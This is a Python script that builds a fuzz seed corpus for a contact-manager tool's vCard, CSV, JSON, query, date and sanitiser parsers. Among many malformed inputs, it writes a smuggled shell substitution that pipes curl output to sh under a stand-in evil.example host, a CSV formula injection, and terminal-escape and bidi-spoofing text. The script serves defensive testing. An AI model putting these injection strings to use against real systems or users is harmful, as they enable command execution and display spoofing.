#!/usr/bin/env python3
"""Writes fuzz/seeds/TARGET/* — the committed seed corpus of every fuzz target.

Seeds are the test fixtures plus the hostile cases of issue 14 (UTF-16 without BOM, random
bytes, unclosed quotes, CRLF, one bad byte, huge cells kept small here, escapes, bidi and
zero-width characters, impossible dates). Found crashes are added by hand as `regress-*` files
and are never rewritten by this script. Run from the repository root: python3 fuzz/make_seeds.py
"""
import glob, os, random

ROOT = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(ROOT)
SEEDS = os.path.join(ROOT, "seeds")
rng = random.Random(14)


def put(target, name, data):
    d = os.path.join(SEEDS, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def fixtures(pattern):
    for path in sorted(glob.glob(os.path.join(REPO, pattern))):
        with open(path, "rb") as f:
            yield os.path.basename(path), f.read()


def ours(name):
    """A file rolo itself wrote (`rolo demo --contacts 4 --seed 3`, one `rm`, then exports)."""
    with open(os.path.join(ROOT, "samples", name), "rb") as f:
        return f.read()


HOSTILE = "Ana \x1b]2;pwn\x07 \u009b31m \u202eevil\u202c \u200bzw\u00ad \U000e0041 \u061c"

# vCard
for name, data in fixtures("tests/fixtures/interop/*.vcf"):
    put("vcard", name, data)
for name, data in fixtures("tests/fixtures/cli/*.vcf"):
    put("vcard", "cli-" + name, data)
put("vcard", "export.vcf", ours("export.vcf"))
card = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana {n}\r\nEMAIL:same@example.com\r\nEND:VCARD\r\n"
put("vcard", "same-email.vcf", "".join(card.format(n=i) for i in range(20)))
put("vcard", "utf16-no-bom.vcf", card.format(n=1).encode("utf-16-le"))
put("vcard", "utf16-bom.vcf", card.format(n=1).encode("utf-16"))
put("vcard", "utf32.vcf", card.format(n=1).encode("utf-32-le"))
put("vcard", "random.bin", bytes(rng.randrange(256) for _ in range(300)))
put("vcard", "no-end.vcf", "BEGIN:VCARD\nVERSION:2.1\nN:Horvat;Ana\nBEGIN:VCARD\nFN:Bo\n")
put("vcard", "hostile.vcf",
    "BEGIN:VCARD\nVERSION:4.0\nFN:" + HOSTILE + "\nEMAIL;TYPE=work:$(curl${IFS}x|sh)@evil.example\n"
    "BDAY:1990-13-99\nNOTE:line\\nline\\,x\nADR:;;;;;;\nTEL;VALUE=uri:tel:+385-1-234\n"
    "X-ROLO-CONSENT;CHANNEL=email:denied;2026-01-01T00:00:00Z;web;news\n"
    "X-ROLO-CUSTOM;X-TYPE=number:size;1e400\nEND:VCARD\n")
put("vcard", "qp-broken.vcf",
    "BEGIN:VCARD\nVERSION:2.1\nN;ENCODING=QUOTED-PRINTABLE;CHARSET=ISO-8859-2:=C8=\n=E\nEND:VCARD\n")
put("vcard", "folded.vcf", "BEGIN:VCARD\nFN:A\n very\n\tlong\nNOTE:" + "x" * 300 + "\nEND:VCARD\n")
put("vcard", "photo.vcf", "BEGIN:VCARD\nFN:P\nPHOTO;ENCODING=b:" + "QUFB" * 50 + "\n AAAA\nEND:VCARD\n")

# CSV
for name, data in fixtures("tests/fixtures/interop/*.csv"):
    put("csv", name, data)
put("csv", "export.csv", ours("export.csv"))
put("csv", "unclosed-quote.csv", 'Name,Email\nAna,ana@example.com\n"Bo,bo@example.com\nCy,cy@example.com\n')
put("csv", "one-bad-byte.csv", b"Name,Email\n" + b"".join(
    ("Jos\u00e9 %d,j%d@example.com\n" % (i, i)).encode() for i in range(20)) + b"Bad \xe9,b@example.com\n")
put("csv", "cp1252.csv", "Pr\u00e9nom;Nom;Soci\u00e9t\u00e9\nJos\u00e9;M\u00fcller;\u00c9cole\n".encode("cp1252"))
put("csv", "crlf.csv", "Name,Email,Phone\r\nAna,ana@example.com,+385 91 234 5678\r\nBo,,0012345678\r\n")
put("csv", "utf16.csv", "\ufeffName\tEmail\nAna\tana@example.com\n".encode("utf-16-le"))
put("csv", "forced-utf16.csv", b"\xfe" + "Name,Email\nAna,a@example.com\n".encode("utf-16-le"))
put("csv", "forced-1252.csv", b"\xfd" + "Name,Email\nJos\u00e9,a@example.com\n".encode("cp1252"))
put("csv", "hostile.csv",
    'Name,Email,Notes,Birthday,custom,consent\n"' + HOSTILE + '",=cmd|x@y.z,"a\nb",1990-02-31,'
    '"{""k"":{""number"":1}}","[{""channel"":""email"",""status"":""denied""}]"\n')
put("csv", "google.csv", "First Name,E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Value,Labels\n"
    "Ana,* Work ::: Home,a@x.example ::: b@x.example,+1 555 ::: +2 666,* myContacts ::: vip\n")
put("csv", "random.bin", bytes(rng.randrange(256) for _ in range(300)))
put("csv", "ragged.csv", "Name,Email\nAna\nBo,b@example.com,extra,more\n,,\n\n")

# JSON
put("json", "export-full.json", ours("export_full.json"))
put("json", "minimal.json", '{"format":"rolo","version":1,"contacts":[]}')
put("json", "contacts-first.json", '{"contacts":[],"version":1,"format":"rolo"}')
put("json", "newer.json", '{"format":"rolo","version":99,"contacts":[]}')
put("json", "not-rolo.json", '{"format":"other","contacts":[{"contact":{}}]}')
put("json", "bad-birthday.json",
    '{"format":"rolo","version":1,"contacts":[{"contact":{"id":1,"name":"A","birthday":'
    '{"year":-5,"month":13,"day":99}},"organization":null}]}')
put("json", "unterminated.json", '{"format":"rolo","version":1,"contacts":[{"contact":{"name":"A\\u00')
put("json", "random.bin", bytes(rng.randrange(256) for _ in range(300)))

# CSV mapping files (TOML, a NUL, then a CSV)
for name, data in fixtures("tests/fixtures/interop/*.toml"):
    csvname = name.replace(".toml", ".csv")
    rows = open(os.path.join(REPO, "tests/fixtures/interop", csvname), "rb").read() \
        if os.path.exists(os.path.join(REPO, "tests/fixtures/interop", csvname)) else b""
    put("csv_mapping", name, data + b"\0" + rows)
put("csv_mapping", "labels.toml",
    '"Mail" = "email.work"\n"Tel" = "phone.mobile"\n"X" = "custom.size"\n"C" = "consent.email"\n'
    '"Skip" = "ignore"\n\0Mail,Tel,X,C,Skip\na@b.example,+1 555 1234,3,yes,zz\n')
put("csv_mapping", "bad.toml", '"Mail" = "emial"\n')

# Keymaps and themes
for name, data in fixtures("keymaps/*.toml"):
    put("keymap", name, data)
for name, data in fixtures("tests/fixtures/keymaps/*.toml"):
    put("keymap", "fixture-" + name, data)
for name, data in fixtures("tests/fixtures/keymaps/keymaps/*.toml"):
    put("keymap", "fixture-user-" + name, data)
for name, data in fixtures("themes/*.toml"):
    put("theme", name, data)
for name, data in fixtures("tests/fixtures/themes/*.toml"):
    put("theme", "fixture-" + name, data)
for name, data in fixtures("tests/fixtures/themes/themes/*.toml"):
    put("theme", "fixture-user-" + name, data)

# Search queries
for i, q in enumerate([
    "nguyen van", "#vip @acme city:lyon stage:lead due:today", "-tag:demo \"ana h\"",
    "+385 91 234 5678", "091 234 5678", "ana@acme.example", "org:\"Acme d.o.o.\"", "-", "due:",
    "tag:", "\"unclosed", "muller ß đức", "x" * 200, HOSTILE, "due:overdue due:week -due:today",
    "rfm:champions -rfm:lost ana", "r:4-5 f:3 m:5-1 orders>=3 spent>1000.50",
    "last_purchase>180d palive<0.3 lastpurchase<=2w p_alive=>0.5",
    "bought:\"Team plan\" month:2025-05 -bought:pro orders=0",
    "rfm:\"can't lose them\" r:9 month:2025-13 orders>=x",
]):
    put("query", "q%02d" % i, q)

# Dates and birthdays
for i, d in enumerate([
    "today", "tomorrow", "+3d", "+2w", "+1m", "+99999999999d", "fri", "friday", "mo", "2026-12-01",
    "1990-13-99", "1990-02-31", "-5-01-01", "--0229", "--02-30", "19900517", "5/17/1990",
    "17.5.1990", "0/0/00", "1990-05-17T00:00:00Z", "99999-1-1", "1.1.1",
]):
    put("dates", "d%02d" % i, d)

# The sanitiser
for i, t in enumerate([
    HOSTILE, "e\u0301\u0301", "  a \t b\r\nc  ", "\u0000\u007f\u0085\u2028\u2029", "#Tag Name",
    "\ufeff\u200d\u2060\u180e", "\U000e007f\U000e0001", "\u1100\u1161\u11a8",
]):
    put("text", "t%02d" % i, t)

# Detection: a few of each
put("detect", "vcard", card.format(n=1))
put("detect", "vcard-bom", b"\xef\xbb\xbf" + card.format(n=1).encode())
put("detect", "json", '{"format":"rolo","version":1,"contacts":[]}')
put("detect", "csv", "Name;Email\nAna;a@example.com\n")
put("detect", "random", bytes(rng.randrange(256) for _ in range(120)))
